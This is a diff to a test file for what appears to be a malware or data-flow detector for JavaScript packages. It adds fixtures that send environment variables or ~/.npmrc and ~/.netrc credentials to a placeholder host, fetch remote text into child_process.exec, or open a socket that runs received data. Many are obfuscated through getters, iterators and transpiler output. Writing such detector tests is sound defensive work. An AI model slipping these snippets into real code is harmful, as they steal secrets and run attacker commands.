@@ -5,6 +5,83 @@ import { flowLines } from '../../test/behave.ts';
 
 const CASES: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
   [
+    'through a listener whose object is its own connection',
+    {
+      'index.js': `require('net').connect(4, 'a.invalid', function () { const self = this; this.on('data', d => require('child_process').exec(d.toString())); self.write('x'); })`,
+    },
+    'net.connect → child_process.exec as content',
+  ],
+  [
+    'through what an object says of itself as JSON',
+    {
+      'index.js': `const all = { toJSON() { return process.env; } }; fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) })`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through what an object of a class says of itself as a text',
+    {
+      'index.js': `class All { toString() { return JSON.stringify(process.env); } } fetch('https://a.invalid', { method: 'POST', body: '' + new All() })`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through what is gone through',
+    {
+      'index.js': `const all = { *[Symbol.iterator]() { yield process.env; } }; fetch('https://a.invalid', { method: 'POST', body: [...all].join() })`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through a private field as TypeScript writes it for old engines',
+    {
+      'index.js': `var _A_all; class A { constructor() { _A_all.set(this, void 0); __classPrivateFieldSet(this, _A_all, process.env, 'f'); } send() { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(__classPrivateFieldGet(this, _A_all, 'f')) }); } } _A_all = new WeakMap(); new A().send()`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'through a private method as esbuild writes it for old engines',
+    {
+      'index.js': `var _A, send_fn; class A { constructor() { __privateAdd(this, _A); __privateMethod(this, _A, send_fn).call(this, process.env); } } _A = new WeakSet(); send_fn = function (all) { fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) }); }; new A()`,
+    },
+    'process.env → fetch as content',
+  ],
+  [
+    'into what a statement makes names of',
+    { 'index.js': `with (require('child_process')) { fetch('https://a.invalid').then(r => r.text()).then(t => exec(t)); }` },
+    'fetch → child_process.exec as content',
+  ],
+  [
+    'through a queue that an object keeps',
+    {
+      'index.js': `class Q { constructor() { this.list = []; } async fill() { this.list.push(await (await fetch('https://a.invalid')).text()); this.drain(); } drain() { require('child_process').exec(this.list.shift()); } } new Q().fill()`,
+    },
+    'fetch → child_process.exec as content',
+  ],
+  [
+    'through an asynchronous function as Babel writes it for old engines',
+    {
+      'index.js': `require('@babel/runtime/regenerator').wrap(function step(context) { while (1) switch (context.prev = context.next) { case 0: context.next = 2; return fetch('https://a.invalid'); case 2: r = context.sent; context.next = 5; return r.text(); case 5: t = context.sent; require('child_process').exec(t); } }, step); var r, t`,
+    },
+    'fetch → child_process.exec as content',
+  ],
+  [
+    'into a module that another file is handed',
+    {
+      'index.js': `require('./start')({ run: require('child_process'), net: require('https') })`,
+      'start.js': `module.exports = ({ run, net }) => net.get('https://a.invalid', r => r.on('data', d => run.exec(String(d))))`,
+    },
+    'https.get → child_process.exec as content',
+  ],
+  [
+    'from a list of files that another file has',
+    {
+      'index.js': `const { names } = require('./names'); for (const name of names) fetch('https://a.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name) })`,
+      'names.js': `exports.names = ['.npmrc', '.netrc']`,
+    },
+    'fs.readFileSync → fetch as content',
+  ],
+  [
     'into the body of a request',
     { 'index.js': `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })` },
     'process.env → fetch as content',
